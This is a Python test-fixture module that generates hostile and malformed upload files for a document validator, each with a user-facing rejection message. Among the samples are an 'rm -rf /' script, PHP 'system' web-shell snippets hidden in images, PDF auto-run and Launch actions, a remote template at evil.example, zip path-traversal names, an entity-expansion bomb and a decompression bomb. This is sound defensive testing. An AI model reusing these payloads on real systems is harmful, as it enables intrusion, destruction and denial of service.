"""Hostile and broken files, each made by a few lines, with what a clerk who chose it must be told."""

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

import pikepdf
from PIL import Image

TYPES = (
    '<Types><Override PartName="/{part}" '
    'ContentType="application/vnd.openxmlformats-officedocument.{main}.main+xml"/></Types>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Hostile:
    """A file that must be refused: its name, its content, and what is said.

    ``size`` is what is announced, where that is not the size of the content; ``by_name`` says that the name alone is
    the fault, which a form without scripts never lets through to us.
    """

    name: str
    make: Callable[[], bytes]
    says: str
    size: int = 0
    by_name: bool = False


def pdf(pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    document = pikepdf.new()
    for _number in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    buffer = io.BytesIO()
    document.save(buffer, **options)
    return buffer.getvalue()


def bulky_pdf(size: int) -> bytes:
    """A PDF of more than a size, in bytes."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.Padding = document.make_stream(random.Random(4).randbytes(size))

    return pdf(change=change)


def picture(form: str, size: tuple[int, int] = (40, 30), **options: Any) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 90).convert("RGB").save(buffer, form, **options)
    return buffer.getvalue()


def archive(parts: Mapping[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return buffer.getvalue()


def docx(**more: bytes | str) -> bytes:
    return archive(docx_parts(**more))


def docx_parts(**more: bytes | str) -> dict[str, bytes | str]:
    types = TYPES.format(part="word/document.xml", main="wordprocessingml.document")
    return {"[Content_Types].xml": types, "word/document.xml": "<w/>", **more}


def xlsx(**more: bytes | str) -> bytes:
    types = TYPES.format(part="xl/workbook.xml", main="spreadsheetml.sheet")
    return archive({"[Content_Types].xml": types, "xl/workbook.xml": "<x/>", **more})


def odt(**more: bytes | str) -> bytes:
    return archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<o/>", **more})


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that says it is of a size, in a few bytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def swollen_pdf() -> bytes:
    """A PDF of 0.7 MB with a stream of objects that unpacks to 0.7 GB."""
    packer = zlib.compressobj(9)
    first = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = first + block * 700
    body = b"%PDF-1.5\n"
    holder = len(body)
    body += b"1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stream)
    body += stream + b"\nendstream endobj\n"
    table = len(body)
    rows = b"".join(struct.pack(">BIH", *row) for row in ((0, 0, 65535), (1, holder, 0), (2, 1, 0), (1, table, 0)))
    body += b"3 0 obj<</Type/XRef/Size 4/W[1 4 2]/Root 2 0 R/Length %d>>stream\n" % len(rows)
    return body + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % table


def _starting(kind: str) -> Callable[[], bytes]:
    def change(document: pikepdf.Pdf) -> None:
        details = {"/S": pikepdf.Name(f"/{kind}"), "/JS": "app.alert(1)", "/F": "calc.exe"}
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(details))

    return lambda: pdf(change=change)


def _attaching(document: pikepdf.Pdf) -> None:
    document.attachments["virus.exe"] = b"MZ"


def _only_one_program(document: pikepdf.Pdf) -> None:
    document.Root.NeedsRendering = True


def _overlapping() -> bytes:
    """Two parts with the same bytes: the second entry of the directory points into the first."""
    content = bytearray(docx(**{"word/a.bin": b"a" * 3000, "word/b.bin": b"a" * 3000}))
    at = content.rindex(b"PK\x01\x02")
    before = content.rindex(b"PK\x01\x02", 0, at)
    content[at + 42 : at + 46] = struct.pack("<I", struct.unpack_from("<I", content, before + 42)[0] + 4)
    return bytes(content)


def _twice() -> bytes:
    content = docx(**{"word/first.xml": "<a/>", "word/other.xml": "<b/>"})
    return content.replace(b"word/other.xml", b"word/first.xml")


def _in_disguise(name: bytes) -> bytes:
    """A part with a name that the library would not write."""
    place = b"word/" + b"x" * (len(name) - 5)
    return docx(**{place.decode(): "x"}).replace(place, name)


def _relation(target: str, kind: str = "attachedTemplate") -> str:
    return (
        f'<Relationships><Relationship Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def _docm() -> bytes:
    types = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    return archive({"[Content_Types].xml": types, "word/document.xml": "<w/>"})


def _commented(comment: bytes) -> bytes:
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as file:
        file.comment = comment
    return buffer.getvalue()


_LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
_MAIL = b"MIME-Version: 1.0\nFrom: a@example.org\nSubject: the decision\n\nattached"
_AND = "Files like that are used to smuggle something in. Please open it, save it anew and choose it again."
_TWO = "The file is two things at once: a document and"
_ANEW = "Please save it anew."
_SCRIPT = b"<script>alert(1)</script>"
_ZIP = archive({"a.txt": "a"})
_DAMAGED_PICTURE = "The picture is damaged or not complete. Please save or take it again."
_MACROS = "The file contains macros (small programs), which are not accepted. Please save it without macros."
_PASSWORD = "The file is protected by a password. Please save it without one and choose it again."
_PROGRAM = "This is a program, whatever its name says. It is not accepted; please have your computer checked."
_PAGE = f"{_TWO} a web page or script. {_AND}"
_INSIDE = "Please save them and upload each on its own."
_HARM = "as in files made to do harm."
_PDF_DAMAGED = "The PDF is damaged or not complete. Please save or scan it again."
_DAMAGED = "The file is damaged or not complete. Please save it again."
_SWELLING = "The file would swell to an unreasonable size when opened, and is not accepted."
_TAIL = "Something else follows after the end of the file. Please open it, save it anew and choose it again."

FILES: tuple[Hostile, ...] = (
    # nothing, too little, too much
    Hostile("empty.pdf", lambda: b"", "The file is empty. Please check it on your computer and choose it again."),
    Hostile(
        "one-byte.pdf",
        lambda: b"%",
        "There is almost nothing in the file (1 B), so it is no document. Please choose the right one.",
    ),
    Hostile("large.pdf", pdf, "The file is too large: 2.1 MB. At most 2 MB are accepted.", size=(2 << 20) + 1),
    # names
    Hostile(
        "decision\0.pdf",
        pdf,
        "The name of the file holds signs that no name has. Please give it a plain name and choose it again.",
        by_name=True,
    ),
    Hostile(
        "decision\u202efdp.jpg",
        lambda: picture("JPEG"),
        "The name of the file holds an invisible sign that turns the order of its letters and so hides what it is. "
        "Please type the name anew and choose the file again.",
        by_name=True,
    ),
    Hostile(
        "decision.exe.pdf",
        pdf,
        "The name has two endings, .exe and .pdf, as programs in disguise have. Please rename the file "
        "and choose it again.",
    ),
    Hostile(
        "decision-photo.pdf",
        lambda: picture("JPEG"),
        "The name ends in .pdf, but the content is JPG. Please rename the file or choose the right one.",
    ),
    # other kinds under a harmless name
    Hostile("program.pdf", lambda: b"MZ\x90\0" + b"\0" * 100, _PROGRAM),
    Hostile("program.jpg", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 100, _PROGRAM),
    Hostile(
        "shortcut.pdf",
        lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100,
        "This is only a shortcut that points to a file. Please choose the file itself.",
    ),
    Hostile(
        "script.pdf",
        lambda: b"#!/bin/sh\nrm -rf / # a long enough script\n",
        "This is a script, whatever its name says. Scripts are never accepted.",
    ),
    Hostile(
        "page.pdf",
        lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "This is a web page. Please open it and print or save it as PDF.",
    ),
    Hostile(
        "drawing.png",
        lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "This is an SVG drawing. Please save it as PDF, PNG or JPG.",
    ),
    Hostile(
        "gif-and-script.jpg",
        lambda: b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)",
        "This is a picture of another kind (GIF, TIFF, BMP or WEBP). Please save it as JPG or PNG.",
    ),
    Hostile(
        "papers.docx",
        lambda: archive({"one.pdf": pdf(), "two.pdf": pdf()}),
        "This is an archive (ZIP, RAR or 7Z). Please take the files out of it and upload each on its own.",
    ),
    Hostile(
        "letter.docx",
        lambda: b"{\\rtf1\\ansi{\\object\\objocx}}",
        "This is a file of the kind RTF. Please save it as DOCX or PDF.",
    ),
    Hostile(
        "film.jpg",
        lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 100,
        "This is a film or a sound recording, which cannot be read as a document.",
    ),
    Hostile(
        "message.pdf",
        lambda: _MAIL,
        "This is an e-mail. Please print it as PDF, and upload what was attached to it on its own.",
    ),
    Hostile(
        "IMG_0001.jpg",
        lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100,
        "This is a HEIC photo. Please save or send it as JPG; a phone does it by the setting “Most compatible”.",
    ),
    Hostile(
        "old.docx",
        lambda: OLE + b"\0" * 600,
        "This is a file of an old Office format (DOC, XLS or PPT). Please save it as DOCX, XLSX or PDF.",
    ),
    Hostile(
        "noise.pdf",
        lambda: bytes(range(128, 256)) * 8,
        "The content of this file is of no accepted kind. Accepted here: PDF, JPG, PNG, "
        "Word document (DOCX), Excel workbook (XLSX), OpenDocument text (ODT).",
    ),
    Hostile(
        "slides.pptx",
        lambda: archive(
            {
                "[Content_Types].xml": TYPES.format(part="ppt/presentation.xml", main="presentationml.presentation"),
                "ppt/presentation.xml": "<p/>",
            }
        ),
        "This is a file of the kind PowerPoint presentation (PPTX). Accepted here: PDF, JPG, PNG, "
        "Word document (DOCX), Excel workbook (XLSX), OpenDocument text (ODT).",
    ),
    # PDF
    Hostile("cut.pdf", lambda: pdf(30)[:1500], _PDF_DAMAGED),
    Hostile("no-pages.pdf", lambda: pdf(0), _PDF_DAMAGED),
    Hostile(
        "locked.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "The PDF asks for a password. Please save it without one and choose it again.",
    ),
    Hostile(
        "javascript.pdf",
        _starting("JavaScript"),
        "The PDF holds a program that starts by itself. Please print it as PDF anew and choose that file.",
    ),
    Hostile(
        "launch.pdf",
        _starting("Launch"),
        "The PDF tries to start a program on the reader’s computer. Please print it as PDF anew, and have the "
        "computer that it comes from checked.",
    ),
    Hostile(
        "carrier.pdf",
        lambda: pdf(change=_attaching),
        "The PDF carries other files inside. Please save them and upload each on its own.",
    ),
    Hostile(
        "form.pdf",
        lambda: pdf(change=_only_one_program),
        "The PDF is a form that only one program can show. Please print the filled-in form as PDF.",
    ),
    Hostile(
        "bomb.pdf",
        swollen_pdf,
        "The PDF needs too much time or memory to be read. Please save or scan it again in a simpler form.",
    ),
    Hostile("page-before.pdf", lambda: b"<html>" + _SCRIPT + pdf(), _PAGE),
    Hostile("page-in-head.pdf", lambda: pdf().replace(b"\n", b"\n%" + _SCRIPT + b"\n", 1), _PAGE),
    Hostile("page-after.pdf", lambda: pdf() + _SCRIPT, _PAGE),
    Hostile("archive-after.pdf", lambda: pdf() + _ZIP, f"{_TWO} an archive. {_AND}"),
    Hostile("archive-around.pdf", lambda: pdf() + _ZIP[:-2] + b"\x06\0%%EOF\n", f"{_TWO} an archive. {_AND}"),
    # pictures
    Hostile("cut.jpg", lambda: picture("JPEG", (400, 300))[:9000], _DAMAGED_PICTURE),
    Hostile("cut.png", lambda: picture("PNG", (400, 300))[:9000], _DAMAGED_PICTURE),
    Hostile("hollow.png", lambda: png_of_size(40, 30), _DAMAGED_PICTURE),
    Hostile(
        "pixels.png",
        lambda: png_of_size(60_000, 60_000),
        "The picture has too many pixels: at most 80 million are accepted. Please save it smaller.",
    ),
    Hostile("archive-after.jpg", lambda: picture("JPEG") + _ZIP, f"{_TWO} an archive. {_AND}"),
    Hostile("program-after.png", lambda: picture("PNG") + b"MZ\x90\0" + b"\0" * 99, f"{_TWO} a program. {_AND}"),
    Hostile("php-after.png", lambda: picture("PNG") + b"<?php system('id'); ?>", _PAGE),
    Hostile("php-in-comment.jpg", lambda: picture("JPEG", comment=b"<?php system('id'); ?>"), _PAGE),
    Hostile("something-after.png", lambda: picture("PNG") + b"what was cut off", _TAIL),
    Hostile("pdf-after.jpg", lambda: picture("JPEG") + pdf(), f"{_TWO} a PDF. {_AND}"),
    # Office files: macros, passwords, programs
    Hostile("macros.docx", lambda: docx(**{"word/vbaProject.bin": b"x"}), _MACROS),
    Hostile("docm.docx", _docm, _MACROS),
    Hostile("macros.odt", lambda: odt(**{"Basic/Standard/Module1.xml": "<m/>"}), _MACROS),
    Hostile("macrosheet.xlsx", lambda: xlsx(**{"xl/macrosheets/sheet1.xml": "<m/>"}), _MACROS),
    Hostile("ole-macros.docx", lambda: OLE + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le"), _MACROS),
    Hostile("locked.docx", lambda: OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), _PASSWORD),
    Hostile("locked.odt", lambda: odt(**{"META-INF/manifest.xml": "<m:encryption-data/>"}), _PASSWORD),
    Hostile(
        "program.docx",
        lambda: docx(**{"word/media/run.exe": b"MZ"}),
        "The file carries a program inside (run.exe). Please remove it, and have the computer checked.",
    ),
    Hostile(
        "package.docx",
        lambda: docx(**{"word/embeddings/oleObject1.bin": OLE + "\x01Ole10Native".encode("utf-16-le")}),
        f"The file carries other files inside (oleObject1.bin). {_INSIDE}",
    ),
    Hostile(
        "remote.docx",
        lambda: docx(**{"word/_rels/settings.xml.rels": _relation("https://evil.example/t.dotm")}),
        "The file fetches a part of itself from the internet when opened. Please save it without the linked template.",
    ),
    Hostile(
        "laughs.docx",
        lambda: docx(**{"word/settings.xml": _LAUGHS}),
        f"The file holds definitions that no Office program writes, made to swell it. {_ANEW}",
    ),
    # archives made to do harm
    Hostile("swelling.docx", lambda: docx(**{"word/media.bin": b"\0" * (40 << 20)}), _SWELLING),
    Hostile(
        "nested.xlsx",
        lambda: xlsx(**{"xl/media/a.zip": _ZIP}),
        f"The file carries other files inside (a.zip). {_INSIDE}",
    ),
    Hostile(
        "many.docx",
        lambda: docx(**{f"word/{number}.xml": "" for number in range(6_000)}),
        f"The file is made of 6002 parts, far more than a document has. {_ANEW}",
    ),
    Hostile("overlapping.docx", _overlapping, f"Parts of the file lie over one another, {_HARM} {_ANEW}"),
    Hostile(
        "twice.docx",
        _twice,
        f"Two parts of the file have the same name, so it can be read in two ways. {_ANEW}",
    ),
    Hostile(
        "outside.docx",
        lambda: _in_disguise(b"word/../../../../etc/cron.d/a"),
        f"A part of the file has a name that leads outside it, {_HARM} {_ANEW}",
    ),
    Hostile(
        "outside-windows.docx",
        lambda: _in_disguise(b"word\\..\\..\\..\\Startup\\a.xml"),
        f"A part of the file has a name that leads outside it, {_HARM} {_ANEW}",
    ),
    Hostile("cut.docx", lambda: docx()[:200], _DAMAGED),
    Hostile(
        "pdf-in-head.docx",
        lambda: archive({"a%PDF-1.4": pdf(), **docx_parts()}, zipfile.ZIP_STORED),
        f"{_TWO} a PDF. {_AND}",
    ),
    Hostile("page-after.docx", lambda: _commented(_SCRIPT), _PAGE),
)


EICAR = base64.b64decode(
    b"WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
)
"""The harmless text that every virus scanner takes for a virus."""
